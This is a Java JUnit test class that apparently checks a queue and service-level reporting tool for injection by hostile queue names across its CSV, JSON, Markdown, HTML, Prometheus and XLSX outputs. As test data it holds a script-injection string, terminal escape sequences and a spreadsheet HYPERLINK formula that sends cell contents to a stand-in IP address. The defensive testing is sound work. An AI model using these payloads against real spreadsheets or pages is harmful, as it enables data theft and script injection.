package io.github.queuesla.e2e.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.commonmark.ext.autolink.AutolinkExtension;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.Node;
import org.commonmark.parser.Parser;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Hostile names for queues, divisions, contracts, clients and service levels, in every command and format. */
class HostileNameTest {

    private static final String FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20";
    private static final Pattern SAMPLE =
            Pattern.compile("([a-z_]+)(\\{(?:[a-z_]+=\"(?:[^\"\\\\\n]|\\\\\\\\|\\\\\"|\\\\n)*\",?)+\\})? -?[0-9.]+");
    private static final String HARMLESS = "Harmless ";

    private static SmallJvm jvm;
    private static HostilePlatform platform;

    @TempDir
    private Path folder = Path.of("");

    @BeforeAll
    static void start() throws IOException {
        jvm = SmallJvm.start();
        platform = HostilePlatform.named(HostileNames.ALL);
    }

    @AfterAll
    static void stop() throws IOException {
        jvm.close();
        platform.close();
    }

    private SmallJvm.Run run(String command) throws IOException {
        return run(platform, command);
    }

    private SmallJvm.Run run(HostilePlatform there, String command) throws IOException {
        Path contract = folder.resolve("contract.yaml");
        if (!Files.exists(contract)) {
            Files.writeString(contract, contract(HostileNames.ALL));
            // A bridge sends many requests per service level and would reach the rate limit.
            Files.writeString(folder.resolve("few.yaml"), contract(HostileNames.ALL.subList(9, 13)));
        }
        // Two days are enough: each name occurs as in a month.
        String days = command.startsWith("report") && !command.contains("--replay")
                ? " --from 2024-01-01 --to 2024-01-02"
                : "";
        SmallJvm.Run run = jvm.run(folder, there.environment(), (command + days).split(" "));
        Harmless.assertVisible(run.err(), command);
        assertThat(run.exitCode()).as(command + ": " + run.err()).isIn(0, 10);
        return run;
    }

    static String contract(List<String> names) {
        StringBuilder yaml = new StringBuilder("format: 1\ncontract: " + HostilePlatform.quoted(names.get(0))
                + "\ndefaults: {time-zone: UTC, within: 20s, target: 80}\nservice-levels:\n");
        for (int number = 0; number + 1 < names.size(); number += 2) {
            yaml.append("  - name: ").append(HostilePlatform.quoted(shortened(names.get(number))));
            yaml.append("\n    client: ").append(HostilePlatform.quoted(shortened(names.get(number + 1))));
            yaml.append("\n    queues: [\"").append(HostilePlatform.id(number)).append("\"]\n");
        }
        return yaml.toString();
    }

    private static String shortened(String name) {
        return name.length() > 500
                ? name.substring(0, 500)
                : name.replaceAll("[\ud800-\udfff]", "x").replace("\u0000", "z");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "report --format table",
                "report --format plain",
                "report --format json",
                "report --format ndjson",
                "report --by media,division --format csv",
                "report --contract contract.yaml --format table",
                "report --contract contract.yaml --format json",
                "report --contract contract.yaml --format ndjson",
                "report --contract contract.yaml --format html",
                "check --contract contract.yaml --format table",
                "check --contract contract.yaml --format json",
                "curve --contract contract.yaml --format table",
                "curve --contract contract.yaml --format json",
                "bridge --contract few.yaml --format table",
                "bridge --contract few.yaml --format json",
                "budget --contract contract.yaml --format table",
                "budget --contract contract.yaml --format json",
                "formulas --contract contract.yaml --format table",
                "formulas --contract contract.yaml --format json",
                "queues --format table",
                "queues --format json",
                "plan --format table",
                "plan --format json",
                "doctor --format table",
                "doctor --format json",
                "contract init",
                "contract validate contract.yaml"
            })
    void outputHasNoHiddenCharacters(String command) throws IOException {
        SmallJvm.Run run = run(command);

        Harmless.text(run.data(), command);
        assertThat(Harmless.files(folder)).containsExactly("contract.yaml", "few.yaml");
    }

    @ParameterizedTest
    @ValueSource(strings = {"report", "report --contract contract.yaml", "check --contract contract.yaml", "queues"})
    void terminalGetsOnlyColours(String command) throws IOException {
        run(command);
        SmallJvm.Run run = jvm.runAtTerminal(folder, platform.environment(), command.split(" "));

        Harmless.assertVisible(run.out().replaceAll("\u001b\\[[0-9;]*m", ""), command);
        Harmless.assertVisible(run.err().replaceAll("\r\u001b\\[K", ""), command);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "report --format csv",
                "report --contract contract.yaml --format csv",
                "check --contract contract.yaml --format csv",
                "curve --contract contract.yaml --format csv",
                "bridge --contract few.yaml --format csv",
                "budget --contract contract.yaml --format csv",
                "formulas --contract contract.yaml --format csv",
                "queues --format csv"
            })
    void noCellOfACsvIsAFormula(String command) throws IOException {
        List<CsvRecord> records = records(Harmless.text(run(command).data(), command));

        assertThat(records).hasSizeGreaterThan(1);
        int columns = records.get(0).getFieldCount();
        for (CsvRecord record : records) {
            assertThat(record.getFieldCount()).isEqualTo(columns);
            assertThat(record.getFields()).allMatch(HostileNameTest::isNoFormula);
        }
    }

    private static boolean isNoFormula(String cell) {
        String trimmed = cell.strip();
        return trimmed.isEmpty() || FORMULA.indexOf(trimmed.charAt(0)) < 0 || trimmed.matches("-[0-9]+(\\.[0-9]+)?");
    }

    @ParameterizedTest
    @CsvSource({"report --format csv --raw-cells,queueName", "queues --format csv --raw-cells,queueName"})
    void rawCellsKeepEveryName(String command, String column) throws IOException {
        List<CsvRecord> records = records(run(command).out());
        int place = records.get(0).getFields().indexOf(column);

        assertThat(records.stream().skip(1).map(record -> record.getField(place)))
                .containsExactlyInAnyOrderElementsOf(
                        HostileNames.ALL.stream().map(HostileNameTest::encoded).toList());
    }

    /** The text after a round trip through UTF-8. */
    private static String encoded(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
    }

    private static List<CsvRecord> records(String csv) throws IOException {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
            return reader.stream().toList();
        }
    }

    @ParameterizedTest
    @CsvSource({"report --format json,rows,queueName", "queues --format json,queues,queueName"})
    void jsonKeepsEveryName(String command, String list, String field) throws IOException {
        JsonNode root = JsonMapper.builder().build().readTree(run(command).data());
        List<String> names = new ArrayList<>();
        root.get(list).forEach(row -> names.add(row.get(field).asString()));

        assertThat(names).containsExactlyInAnyOrderElementsOf(HostileNames.ALL);
    }

    @Test
    void ndjsonKeepsEveryName() throws IOException {
        JsonMapper mapper = JsonMapper.builder().build();
        List<String> names = run("report --format ndjson")
                .out()
                .lines()
                .map(line -> mapper.readTree(line).get("queueName").asString())
                .toList();

        assertThat(names).containsExactlyInAnyOrderElementsOf(HostileNames.ALL);
    }

    @ParameterizedTest
    @ValueSource(strings = "report --contract contract.yaml --format markdown")
    void markdownEscapesEveryName(String command) throws IOException {
        String markdown = Harmless.text(run(command).data(), command);
        Node document = Parser.builder()
                .extensions(List.of(TablesExtension.create(), AutolinkExtension.create()))
                .build()
                .parse(markdown);
        List<String> found = new ArrayList<>();
        document.accept(new AbstractVisitor() {
            @Override
            public void visit(HtmlBlock block) {
                found.add(block.getLiteral());
            }

            @Override
            public void visit(HtmlInline inline) {
                found.add(inline.getLiteral());
            }

            @Override
            public void visit(Link link) {
                found.add(link.getDestination());
            }

            @Override
            public void visit(Image image) {
                found.add(image.getDestination());
            }
        });

        // Markdown readers differ on mail addresses; this one takes nearly anything with an @.
        found.removeIf(link -> link.startsWith("mailto:"));
        assertThat(found).isEmpty();
    }

    @Test
    void everyLineForPrometheusIsASampleAndNoneComesTwice() throws IOException {
        String text = Harmless.text(
                run("report --contract contract.yaml --format prometheus").data(), "prometheus");
        List<String> samples =
                text.lines().filter(line -> !line.startsWith("# ")).toList();

        assertThat(samples)
                .hasSizeGreaterThan(HostileNames.ALL.size() / 2)
                .allMatch(line -> SAMPLE.matcher(line).matches());
        assertThat(samples.stream().map(line -> line.substring(0, line.lastIndexOf(' '))))
                .doesNotHaveDuplicates();
    }

    @Test
    void workbookHasNoFormulaOfANameAndKeepsEveryName() throws IOException {
        byte[] workbook = run("report --contract contract.yaml --format xlsx").data();
        List<String> texts = new ArrayList<>();
        try (ReadableWorkbook read = new ReadableWorkbook(new ByteArrayInputStream(workbook))) {
            for (Sheet sheet : read.getSheets().toList()) {
                Harmless.assertVisible(sheet.getName(), "sheet");
                sheet.openStream()
                        .forEach(row -> row.stream()
                                .filter(cell -> cell != null)
                                .forEach(cell -> {
                                    if (cell.getType() == CellType.FORMULA) {
                                        assertThat(cell.getFormula()).matches("[A-Z]+[0-9]+/[A-Z]+[0-9]+");
                                    } else {
                                        texts.add(cell.getText());
                                    }
                                }));
            }
        }
        texts.forEach(text -> Harmless.assertVisible(text, "cell"));
        assertThat(texts)
                .contains(
                        "+1-555-0100",
                        "@SUM(A1:A9)",
                        "\uff0b1",
                        "'=6+6",
                        "</script><script>alert(1)</script>",
                        "# heading");
    }

    @Test
    void pageHasTheSameElementsWhateverTheNames() throws IOException {
        String hostile = run("report --contract contract.yaml --format html").out();
        List<String> names = new ArrayList<>();
        for (int number = 0; number < HostileNames.ALL.size(); number++) {
            names.add(HARMLESS + number);
        }
        Files.writeString(folder.resolve("contract.yaml"), contract(names));
        try (HostilePlatform harmless = HostilePlatform.named(names)) {
            String page = run(harmless, "report --contract contract.yaml --format html")
                    .out();

            assertThat(elements(hostile)).isEqualTo(elements(page));
        }
    }

    private static Map<String, Long> elements(String page) {
        return Pattern.compile("<[^>\\s]+|<[^>]*\\bon[a-z]+\\s*=")
                .matcher(page.replaceAll("(?s)<script.*?</script>", "<script>"))
                .results()
                .map(found -> found.group())
                .collect(Collectors.groupingBy(name -> name, TreeMap::new, Collectors.counting()));
    }

    @Test
    void recordingStaysInItsFolder() throws IOException {
        run("report --record kept");

        assertThat(Harmless.files(folder))
                .allMatch(file -> file.matches("(contract|few)\\.yaml|kept/[a-z0-9]+\\.json"));
        assertThat(run("report --format json --replay kept --from 2024-01-01 --to 2024-01-02")
                        .out())
                .contains("+1-555-0100");
    }

    @Test
    void contractInitWithHostileQueuesIsValid() throws IOException {
        run("contract init -o begun.yaml");
        run("contract validate begun.yaml");

        assertThat(Harmless.files(folder)).containsExactly("begun.yaml", "contract.yaml", "few.yaml");
    }

    @Test
    void queuesAreFoundByHostileNames() throws IOException {
        for (String name : List.of("=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"Sales\")", "\u001b[31mred\u001b[0m")) {
            SmallJvm.Run run = jvm.run(folder, platform.environment(), "queues", "--queue", name, "--format", "json");

            assertThat(run.exitCode()).as(run.err()).isZero();
        }
    }
}
